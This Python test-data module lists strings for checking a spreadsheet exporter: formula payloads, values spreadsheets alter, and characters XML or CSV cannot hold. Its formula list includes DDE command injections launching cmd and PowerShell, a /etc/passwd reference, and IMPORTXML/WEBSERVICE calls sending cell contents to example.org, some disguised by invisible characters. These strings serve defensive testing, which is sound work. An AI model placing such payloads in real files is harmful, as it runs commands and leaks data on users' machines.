"""Texts that spreadsheets have run as formulas or links, or changed as they read them."""

FORMULAS = (
    # What a spreadsheet runs, plainly, with signs, as functions, as links, as commands.
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "=cmd|'/C calc'!A0",
    "+cmd|' /C powershell IEX(x)'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.org\",\"click\")",
    "=IMPORTXML(CONCAT(\"http://example.org/?\",A1),\"//a\")", "=IMPORTDATA(\"http://example.org\")",
    "=IMAGE(\"http://example.org/x.png\")", "=WEBSERVICE(\"http://example.org/\"&A1)",
    "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "='file:///etc/passwd'#$passwd.A1", "=RTD(\"x\",,\"y\")", "=1+1;=2+2", "|calc", "-0x1F", "+00123",
    # The same behind characters that are not shown, or that a reader takes away.
    " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\u200f=1+1", "\u2060=1+1",
    "\u3000=1+1", "\x00=1+1", "\x1b=1+1", "\x0b=1+1", "\x7f=1+1", " \t =1+1", "\x00\x01\x02=1+1", "\x85=1+1",
    # In full width, and with what would end a field, a row or a tag.
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1+1)", "=1+1\",\"=2+2", "=\"x\"\r\n=1+1", "=1+1</t></is></c><c><f>1+1</f></c>",
    "=<r><t>1+1</t></r>",
)  # fmt: skip
"""46 of them."""

CHANGED = (
    "00123", "+48123456789", "1234567890123456789", "1E5", "2e8", "1/2", "3-4", "MAR1", "SEPT2", "0.1000", "1,5",
    "TRUE", "#REF!", "12:30", "2024-05-02", "50%", "$5", " blanks ", "a\nb", "a\tb", "'quoted'", "_x0041_", "<r>a</r>",
    "<r><t>x</t></r>", "&amp;", "]]>", "<!--", "\"", "NaN", "-", "",
)  # fmt: skip
"""What must come back as it is, where the form can hold it."""

ODD = ("a\x00b", "\x01", "\ufffe", "\uffff", "\ud800", "a\udfff", "\u202eabc", "a\rb", "\x85", "\U0001f33b", "e\u0301")
"""What XML, CSV or UTF-8 cannot hold, or might be lost on the way."""
